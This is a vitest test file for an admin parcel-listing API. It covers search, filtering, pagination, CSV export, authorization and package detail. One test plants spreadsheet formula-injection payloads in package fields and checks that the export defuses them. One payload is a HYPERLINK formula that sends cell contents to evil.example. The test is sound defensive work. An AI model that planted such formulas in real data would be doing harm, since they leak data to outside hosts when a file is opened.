import { eq } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { signInAdmin } from "../../../test/admins.js";
import { buildTestApp } from "../../../test/build-app.js";
import { client, signUpCustomer } from "../../../test/http.js";
import { createPackage, daysAgo } from "../../db/factories/index.js";
import { customers } from "../../db/schema.js";

const { app, dataDir } = await buildTestApp();
const worker = await signInAdmin(app, "worker");
const staff = client(app, worker.token);
const signedUp = await signUpCustomer(app, { firstname: "Chiamaka", lastname: "Okafor" });
const [customer] = await app.db.select().from(customers).where(eq(customers.id, signedUp.user.id));
const other = await signUpCustomer(app, { firstname: "Bola", lastname: "Adeyemi" });

// Four parcels: two of Chiamaka's, one of Bola's, one nobody could match.
const shelved = await createPackage(app.db, {
  owner: customer!,
  carrier_tracking_number: "1ZPKGSTAFF0001",
  bin_location: "B-07",
  warehouse: "Brixton",
  receivedDaysAgo: 45,
  created_at: daysAgo(45),
});
const ready = await createPackage(app.db, {
  owner: customer!,
  status: "ready_to_ship",
  carrier_tracking_number: "TBA000111222",
  bin_location: "C-01",
  receivedDaysAgo: 95,
  created_at: daysAgo(40),
});
const bolas = await createPackage(app.db, {
  owner: { id: other.user.id },
  carrier_tracking_number: "9400111899223344",
  receivedDaysAgo: 2,
  created_at: daysAgo(2),
});
const unknown = await createPackage(app.db, {
  owner: null,
  label_owner_text: "SW00000 Mystery Person",
  carrier_tracking_number: "1ZUNKNOWN55555",
  receivedDaysAgo: 1,
  created_at: daysAgo(1),
  photos: { dataDir, count: 2 },
});

type Listed = { packages: Array<{ id: number }>; pagination: { total: number; totalPages: number } };
const ids = (body: Listed) => body.packages.map((p) => p.id);
const list = async (query = "") => {
  const res = await staff.get(`/api/admin/packages${query}`);
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  return res.body as Listed;
};
const search = async (q: string) => ids(await list(`?q=${encodeURIComponent(q)}`));

describe("GET /api/admin/packages", () => {
  it("lists every package newest first with owner, days held and exact totals", async () => {
    const body = await list();
    expect(ids(body)).toEqual([unknown.id, bolas.id, ready.id, shelved.id]);
    expect(body.pagination).toEqual({ page: 1, pageSize: 20, total: 4, totalPages: 1 });
    const row = body.packages.find((p) => p.id === shelved.id);
    expect(row).toMatchObject({
      package_code: shelved.package_code,
      status: "received",
      warehouse: "Brixton",
      bin_location: "B-07",
      owner: { id: customer!.id, name: "Chiamaka Okafor", suite_number: customer!.suite_number },
      days_held: 45,
    });
    const paged = await list("?pageSize=3&page=2");
    expect(ids(paged)).toEqual([shelved.id]);
    expect(paged.pagination).toMatchObject({ total: 4, totalPages: 2 });
  });

  it("searches by carrier tracking number, package id, suite, customer name and e-mail, bin and label text", async () => {
    expect(await search("1zpkg-staff 0001")).toEqual([shelved.id]);
    expect(await search("TBA000")).toEqual([ready.id]);
    expect(await search(bolas.package_code.toLowerCase())).toEqual([bolas.id]);
    expect(await search(bolas.package_code.slice(3))).toEqual([bolas.id]);
    expect(await search(customer!.suite_number)).toEqual([ready.id, shelved.id]);
    expect(await search("chiamaka okafor")).toEqual([ready.id, shelved.id]);
    expect(await search(other.email)).toEqual([bolas.id]);
    expect(await search("c-01")).toEqual([ready.id]);
    expect(await search("mystery")).toEqual([unknown.id]);
    expect(await search(`#${bolas.id}`)).toContain(bolas.id);
    expect(await search("nothing-like-this")).toEqual([]);
  });

  it("filters by status, warehouse, days held and owner; sorts by column", async () => {
    expect(ids(await list("?status=ready_to_ship"))).toEqual([ready.id]);
    expect(ids(await list("?warehouse=Brixton"))).toEqual([shelved.id]);
    expect(ids(await list("?age=30"))).toEqual([ready.id, shelved.id]);
    expect(ids(await list("?age=60"))).toEqual([ready.id]);
    expect(ids(await list("?age=90"))).toEqual([ready.id]);
    expect(ids(await list("?owner=unknown"))).toEqual([unknown.id]);
    expect(ids(await list("?owner=known&warehouse=Trail%20Richmond"))).toEqual([bolas.id, ready.id]);
    expect(ids(await list("?sortBy=received_at&sort=asc"))).toEqual([ready.id, shelved.id, bolas.id, unknown.id]);
    expect(ids(await list("?sort=asc"))).toEqual([shelved.id, ready.id, bolas.id, unknown.id]);
    const bad = await staff.get("/api/admin/packages?warehouse=Atlantis");
    expect(bad.status).toBe(400);
    expect(bad.body.error).toBe("Invalid warehouse");
    expect((await staff.get("/api/admin/packages?age=7")).status).toBe(400);
  });

  it("exports the filtered list as CSV", async () => {
    const csv = await staff.get("/api/admin/packages?format=csv&warehouse=Brixton");
    expect(csv.status).toBe(200);
    expect(csv.headers["content-type"]).toContain("text/csv");
    const lines = String(csv.raw.body).trim().split("\r\n");
    expect(lines[0]).toBe(
      "Package ID,Status,Warehouse,Carrier,Carrier Tracking Number,Customer,Email,Suite,Label Says,Description,Weight (g),Bin,Condition,Received,Days Held",
    );
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain(
      `${shelved.package_code},received,"London, UK",UPS,1ZPKGSTAFF0001,Chiamaka Okafor,${signedUp.email},${customer!.suite_number},`,
    );
    expect(lines[1]).toMatch(/,2450,B-07,good,.*,45$/);
  });

  it("defuses formulas in the CSV: what customers and labels wrote cannot run in a spreadsheet", async () => {
    const hostile = await createPackage(app.db, {
      owner: { id: other.user.id },
      warehouse: "Sabo Yaba",
      carrier_tracking_number: "1ZCSVFORMULA01",
      description: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      label_owner_text: "+SUM(1,2)",
      bin_location: "@A1",
    });
    const csv = await staff.get("/api/admin/packages?format=csv&q=1ZCSVFORMULA01");
    expect(csv.status).toBe(200);
    const [, line, more] = String(csv.raw.body).trim().split("\r\n");
    expect(more).toBeUndefined();
    expect(line).toContain(hostile.package_code);
    expect(line).toContain(`'+SUM(1,2)`);
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(line).toContain(",'@A1,");
    expect(line).not.toMatch(/(^|,)[=+@-]/);
  });

  it("refuses customers and anonymous callers", async () => {
    expect((await client(app, signedUp.token).get("/api/admin/packages")).status).toBe(401);
    expect((await client(app).get("/api/admin/packages")).status).toBe(401);
  });
});

describe("GET /api/admin/packages/unknown-owner", () => {
  it("holds only the parcels without an owner, with the label's text and photos", async () => {
    const res = await staff.get("/api/admin/packages/unknown-owner");
    expect(res.status).toBe(200);
    expect(ids(res.body)).toEqual([unknown.id]);
    const row = res.body.packages[0];
    expect(row).toMatchObject({ owner: null, label_owner_text: "SW00000 Mystery Person", warehouse: "Trail Richmond" });
    expect(row.photos).toHaveLength(2);
    const photo = await staff.get(row.photos[0].url);
    expect(photo.status).toBe(200);
    expect(photo.headers["content-type"]).toBe("image/jpeg");
    // The queue ignores an owner filter of its own: it is the unknown owners' list.
    expect(ids((await staff.get("/api/admin/packages/unknown-owner?owner=known")).body)).toEqual([unknown.id]);
  });
});

describe("GET /api/admin/packages/:id", () => {
  it("answers the package with owner, bin, who received it, history and audit trail", async () => {
    const res = await staff.get(`/api/admin/packages/${ready.id}`);
    expect(res.status).toBe(200);
    expect(res.body.package).toMatchObject({
      id: ready.id,
      package_code: ready.package_code,
      status: "ready_to_ship",
      owner: { id: customer!.id, email_address: signedUp.email, name: "Chiamaka Okafor" },
      bin_location: "C-01",
      received_by: "Sam workerson",
      weight_grams: 2450,
      volumetric_grams: 4800,
      audit: [],
    });
    expect(res.body.package.received_by).toMatch(/\S/);
    expect(res.body.package.history.map((h: { status: string }) => h.status)).toEqual(["ready_to_ship", "received"]);
    expect((await staff.get("/api/admin/packages/999999")).status).toBe(404);
  });
});
